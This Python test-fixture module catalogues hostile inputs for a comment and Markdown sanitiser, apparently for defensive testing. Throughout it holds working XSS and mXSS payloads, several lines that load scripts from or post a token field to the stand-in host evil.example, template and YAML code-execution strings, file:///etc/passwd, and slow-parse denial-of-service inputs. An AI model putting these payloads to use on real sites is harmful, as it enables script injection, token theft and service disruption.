"""What strangers write to harm a reader, the owner or the site: each class in many shapes, with the
number of its item on the hostile list. What pages may hold all the same stands in `harmless.py`.

A test names the items that it tries as "Item 3" or "Items 1 to 7" in its docstring, and
`test_hostile_list.py` holds those against the whole list.
"""

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    """Something hostile, and the number of its class on the list."""

    item: int
    text: str

    def __str__(self) -> str:
        return f"{self.item}: {self.text[:60]!r}"

    @property
    def is_literal(self) -> bool:
        """Whether readers should see it letter for letter: no Markdown is in it."""
        is_plain = not set("*_`\\&[]~#") & set(self.text) and self.text[0] not in "> "
        return self.item in (1, 2, 10) and is_plain


def _of(item: int, *texts: str) -> list[Vector]:
    return [Vector(item, text) for text in texts]


_SCRIPTS = _of(
    1,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import "//evil.example/x.js"</script>',
    "<script>alert(1)<!--",
    "</p></div></article></section></main></body><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<?x ?><script>alert(1)</script>",
    "<!DOCTYPE x><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Entities are letters in Markdown, and must be escaped once more on the way out.
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '~~~ "onmouseover="alert(1)\n</textarea><script>alert(1)</script>\n~~~',
    "    <script>alert(1)</script>\n    </code></pre><script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>\n\n1. <script>alert(1)</script>",
    "*<script>*alert(1)**</script>**",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
)
_ELEMENTS = _of(
    2,
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<image href=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video src=https://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1) background=https://evil.example/b.png>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=https://evil.example/s>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); html{display:none}</style>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    "</form><form action=https://evil.example/><input name=token>",
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "<picture><source srcset=https://evil.example/p><img srcset=https://evil.example/p></picture>",
    "<frameset onload=alert(1)><frame src=https://evil.example/></frameset>",
    "<dialog open onclose=alert(1)>x</dialog><template><script>alert(1)</script></template>",
    # What one parser reads otherwise than the next (mXSS).
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<svg><annotation-xml encoding=text/html><img src=x onerror=alert(1)></svg>",
    "<xmp><script>alert(1)</script></xmp><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)><textarea></textarea><img src=x onerror=alert(1)>",
    "<table><td background=https://evil.example/t><caption><img src=x onerror=alert(1)></table>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x\u2028onerror=alert(1)>",
)
_NO_WAYS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript%3Aalert(1)",
    "\\javascript:alert(1)",
    "javascript://e.example/%0aalert(1)",
    "\uff4aavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:https://evil.example/",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "ws://evil.example/",
    "mailto:x@evil.example",
    "tel:1",
    "ms-word:ofe|u|https://evil.example/x",
    "intent://evil.example/",
    "about:blank",
)
_SCHEMES = _of(
    3,
    *(f"[x]({way})" for way in _NO_WAYS),
    *(f"[x](<{way}>)" for way in _NO_WAYS[:16]),
    *(f"<{way}>" for way in _NO_WAYS if "@" not in way),
    "[x](\njavascript:alert(1)\n)",
    "[x][javascript:alert(1)](javascript:alert(1))",
    "[**`x`**](javascript:alert(1) 'a title')",
)
_REFERENCES = _of(
    4,
    *(f"[x]: {way}\n\n[x]" for way in _NO_WAYS[:6]),
    "[x]: <javascript:alert(1)> 'a title'\n\n[x][] [y][x] ![x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "[x]: https://evil.example/ 'a title'\n\n[x]",
    "> [x]: javascript:alert(1)\n\n[x]",
    "[constructor]: x\n[__proto__]: javascript:alert(1)\n\n[__proto__] [constructor]",
)
_TITLES = _of(
    5,
    "[x](https://e.example \"' onmouseover='alert(1)\")",
    "[x](https://e.example '\" onmouseover=\"alert(1)')",
    "[x](https://e.example (\"'` onmouseover=alert(1)))",
    "[x](https://e.example \"a\nb' style='position:fixed\")",
    "[x](https://e.example/\"onmouseover=\"alert(1) 'style=x')",
    "[x](https://e.example/'onmouseover='alert(1))",
    '[x](<https://e.example/" onmouseover="alert(1)>)',
    "[x](https://e.example/&quot;onmouseover=&quot;alert(1))",
    '[x](https://e.example/\\"onmouseover=\\"alert(1))',
    '<https://e.example/"onmouseover="alert(1)>',
    "[x](https://e.example/%22onmouseover=%22alert(1))",
)
_INWARD = (
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/relative",
    "relative",
    "../moderate/logout",
    "?reply=x",
    "#comments",
    "",
    "https://u:p@evil.example/",
    "https://u@evil.example/",
    "https://e.example@evil.example/",
    "https://e.example:443@evil.example/",
    "https://e.example%40x@evil.example/",
    "https://:@evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://",
    "https://[::1",
    "http://\u200bevil.example/",
)
_ADDRESSES = _of(6, *(f"[x]({way})" for way in _INWARD), *(f"[x](<{way}>)" for way in _INWARD))
_PICTURES = _of(
    7,
    "![i](https://evil.example/p.gif)",
    "![i](//evil.example/p.gif)",
    "![i](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "![i][p]\n\n[p]: https://evil.example/p.gif",
    "[![i](https://evil.example/p.gif)](https://e.example/)",
    '![i](https://evil.example/p.gif "a title")',
    "<img src=https://evil.example/p.gif>",
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    "<link rel=preload as=image href=https://evil.example/p.gif>",
    "<link rel=dns-prefetch href=//evil.example>",
)
_BREAKS_OUT = _of(
    9,
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>",
    "--></script><svg onload=alert(1)>",
    ']]></content></entry><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    '"}</script><img src=x onerror=alert(1)>',
    "</title></textarea></style></pre></option><script>alert(1)</script>",
)
_TEMPLATES = _of(
    10,
    "{{ config }} {{ 7*7 }} {% include 'base.html' %} {# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ site.url }}{% endraw %}",
    "{filename}../x.md {static}/x.png {attach}x {author}x {category}x {tag}x {index}",
    "|filename|../x.md |static|x",
    "[x]({filename}/posts/x.md) [y]({static}/images/cup.svg) [z](|filename|x.md)",
    "[[first-evening]] [[no-such-thing]] [[theme:guilt]]",
    "${7*7} $(id) %(name)s {0.__class__} <%= 7*7 %> #{7*7} @{7*7}",
    "[TOC]\n\n{: #comments .x onclick=alert(1) }\n\n!!! note\n    x\n\n::: reflect\nx\n:::",
    "x[^1] *[HTML]: y\n\n[^1]: a footnote",
    "Title: x\nStatus: published\nSave_as: ../../evil.html\n\ntext",
)
_OUTLINE = _of(
    11,
    "<p id=comments class=x style=position:fixed;inset:0>x</p>",
    "# one\n\n## two ##\n\n###### six\n\n#hash",
    "---\n\n***\n\n___\n\n- - -",
    "one\n===\n\ntwo\n---",
    "<h1 id=main>x</h1><hr><a name=write>x</a>",
    "> # one\n> two\n> ===\n\n- # three\n- four\n  ---",
    "# c-one23456 {#c-one23456}",
    "<ol><li><article id=c-one23456 class='comment by-owner'>",
)
MARKUP = [
    *_SCRIPTS,
    *_ELEMENTS,
    *_SCHEMES,
    *_REFERENCES,
    *_TITLES,
    *_ADDRESSES,
    *_PICTURES,
    *_BREAKS_OUT,
    *_TEMPLATES,
    *_OUTLINE,
]

# In a name, which is at most 60 characters long.
NAMES = _of(
    8,
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
    "</h3></article></li></ol><script>alert(1)</script>",
    "<b>Sam</b> <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</title><svg onload=alert(1)>",
    "</textarea></button></form><script>alert(1)</script>",
    "--></script><script>alert(1)</script>",
    "{{ config }} {% raw %} ${7*7} %s",
    "[x](javascript:alert(1)) ![](https://evil.example/)",
    "*Sam* `Sam` <https://evil.example/>",
    'Sam\\" onclick=\\"alert(1)',
)

# As a website: refused at the door, and no link where they stand in a file.
NO_WEBSITES = _of(
    8,
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><script>alert(1)</script>",
    "https://a.example/`x`",
    "https://a.example/x y",
    "https://a.example\\@evil.example/",
    "javascript:alert(1)//https://a.example/",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://u:p@evil.example/",
    "https://a.example@evil.example/",
    "https:evil.example",
    "mailto:a@evil.example",
    "https://a.ex\u200bample/",
    "https://a.ex\u202eample/",
    "x",
)
WEBSITES = ("https://a.example/?a=1&b=2;c#d", "http://a.example", "https://a.example/%22x%22")

# What takes a careless parser minutes (item 12). The door takes 10 000 characters, a file 40 000.
SLOW = [
    Vector(12, text)
    for text in (
        "[" * 20_000,
        "[a](" * 10_000,
        "![" * 20_000,
        "*a " * 13_000,
        "**a *b " * 5_000,
        "_a__b" * 8_000,
        "~~a " * 10_000,
        "> " * 20_000,
        ">" * 20_000 + "x",
        "- " * 20_000,
        "1. " * 13_000,
        "".join(f"{' ' * 2 * depth}- x\n" for depth in range(190)),
        "> - " * 10_000,
        "`" * 40_000,
        "".join("`" * count + " " for count in range(1, 280)),
        "<" * 40_000,
        "<a " * 13_000,
        "<!--" * 10_000,
        "<![CDATA[" * 4_000,
        "&" * 40_000,
        "&#x" * 13_000,
        "\\" * 40_000,
        "](" * 20_000,
        "[a](<b" * 6_000,
        '[a](b "' * 5_000,
        "https://" * 5_000,
        "a@" * 20_000,
        "\n" * 39_999 + "x",
        " " * 39_999 + "x",
        "\t" * 39_999 + "x",
        "x\n" * 20_000,
        "```\n" * 10_000,
        "e\u0301" * 20_000,
        "e" + "\u0301" * 39_000,
        "\u202e" * 40_000,
        "[x]: y\n" * 5_000,
    )
]

# Names that nobody can see (item 18).
INVISIBLE = [
    " ",
    "\t \t",
    "\u00a0",
    "\u2003\u2009",
    "\u3000",
    "\u200b",
    "\u200c\u200d",
    "\u2060\u2061\u2064",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\u115f",
    "\u1160",
    "\u17b4\u17b5",
    "\u180e",
    "\u2028\u2029",
    "\u202e\u2066",
    "\u2800",
    "\u3164",
    "\u3164 \u3164",
    "\uffa0",
    "\ufe0f",
    "\U000e0041\U000e0042",
    "\U000e0100",
    "\U0001d159",
    "\u0301\u0301",
    "\0\x01\x1f\x7f\x85",
    "\r\n",
]
# Names that are somebody's and stay as they are (item 21).
PEOPLE = [
    "👩‍👧",
    "👩🏽‍🚀 Mo",
    "Zoë",
    "Zoe\u0308",
    "Δημήτρης",
    "Арина",
    "أمينة بنت محمد",
    "נוֹעָה",
    "ஸ்ரீ",
    "กัญญา",
    "नन्दिनी",
    "山田 太郎",
    "한별",
    "Nguyễn Thị",
    "Ɓaba",
    "O’Neill-Smith, Jr.",
    "D'Arcy & Sons <3",
    "می‌خواهم",
]
# Names that YAML would read as something else, or that end a value (item 15).
YAML_NAMES = [
    "---",
    "...",
    "null",
    "~",
    "no",
    "Yes",
    "true",
    "0x1F",
    "1e3",
    "12:30:45",
    "2026-01-01",
    "2026-01-01T00:00:00Z",
    ".inf",
    "=",
    "<<",
    "!!python/object:os.system x",
    "!!binary aGk=",
    "&a x",
    "*a",
    "{a: b}",
    "[a, b]",
    "- a",
    "? a",
    "a: b",
    "a #b",
    "# a",
    "| a",
    "> a",
    "% a",
    "@a",
    "`a`",
    "'a'",
    '"a"',
    "a\\nb",
    "status: approved",
    "'''",
    "{{ x }}",
]
